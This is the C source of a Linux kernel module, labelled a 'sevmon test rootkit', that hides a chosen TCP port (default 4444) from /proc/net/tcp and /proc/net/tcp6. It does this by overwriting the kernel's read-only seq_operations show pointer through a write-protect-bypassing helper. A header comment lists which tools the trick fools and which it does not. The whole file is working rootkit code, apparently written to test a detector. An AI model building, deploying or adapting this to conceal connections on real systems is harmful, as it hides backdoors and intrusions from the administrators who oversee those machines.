// SPDX-License-Identifier: GPL-2.0
/*
 * rk_tcp_seq: hides a TCP port from /proc/net/tcp and /proc/net/tcp6 (the old "afinfo" trick
 * of adore-ng and its heirs, on today's kernels): the seq_operations behind those files
 * (tcp4_seq_ops / tcp6_seq_ops, const, in rodata) get their .show replaced, with a CR0.WP-
 * cleared write, by rk_show(), which prints nothing for a socket whose local port is `port`
 * (listening, established, time-wait and request socks alike: all start with sock_common) and
 * calls the real show for the rest. The ops are found through an open /proc/net/tcp file: its
 * seq_file's ->op is the tcp4_seq_ops the kernel itself uses.
 *
 * Fools: netstat, busybox/net-tools, anything reading /proc/net/tcp{,6}. Does NOT fool:
 * ss (inet_diag over netlink), connecting to the port, /proc/PID/fd + /proc/net/... by inode.
 *
 * Parameters: port (default 4444), hidden (rows suppressed so far), tables (how many hooked).
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/err.h>
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/rcupdate.h>
#include <linux/seq_file.h>
#include <net/sock.h>
#define RK_WRITE_RO
#include "rk_common.h"

static unsigned short port = 4444;
module_param(port, ushort, 0444);
static unsigned long hidden;
module_param(hidden, ulong, 0444);
static int tables;
module_param(tables, int, 0444);

typedef int (*rk_show_t)(struct seq_file *, void *);

struct rk_table {
	const char *path;
	struct seq_operations *ops;	/* the kernel's, read-only */
	rk_show_t real_show;
};
static struct rk_table rk_tables[2] = { { "/proc/net/tcp" }, { "/proc/net/tcp6" } };
static atomic_t inflight = ATOMIC_INIT(0);

static int rk_show_common(int i, struct seq_file *seq, void *v)
{
	int ret = 0;

	atomic_inc(&inflight);
	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == port)
		hidden++;
	else
		ret = rk_tables[i].real_show(seq, v);
	atomic_dec(&inflight);
	return ret;
}
static int rk_show4(struct seq_file *seq, void *v) { return rk_show_common(0, seq, v); }
static int rk_show6(struct seq_file *seq, void *v) { return rk_show_common(1, seq, v); }
static const rk_show_t rk_shows[2] = { rk_show4, rk_show6 };

static int rk_hook(int i)
{
	struct rk_table *t = &rk_tables[i];
	struct file *f = filp_open(t->path, O_RDONLY, 0);
	struct seq_file *seq;
	rk_show_t new = rk_shows[i];
	int err;

	if (IS_ERR(f))
		return PTR_ERR(f);
	seq = f->private_data;
	t->ops = (struct seq_operations *)seq->op;
	filp_close(f, NULL);
	t->real_show = t->ops->show;
	err = rk_write_ro(&t->ops->show, &new, sizeof(new));
	if (err)
		return err;
	pr_info("rk_tcp_seq: %s seq_ops %px: show %ps -> rk_show\n", t->path, t->ops, t->real_show);
	tables++;
	return 0;
}

static void rk_unhook(int i)
{
	struct rk_table *t = &rk_tables[i];

	if (t->ops && t->ops->show == rk_shows[i])
		rk_write_ro(&t->ops->show, &t->real_show, sizeof(t->real_show));
}

static int __init rk_init(void)
{
	int err = rk_hook(0);

	if (err)
		return err;
	if (rk_hook(1))
		pr_info("rk_tcp_seq: no /proc/net/tcp6, IPv4 only\n");
	return 0;
}

static void __exit rk_exit(void)
{
	rk_unhook(0);
	rk_unhook(1);
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("rk_tcp_seq: restored after hiding %lu rows\n", hidden);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: hides a port from /proc/net/tcp{,6}");
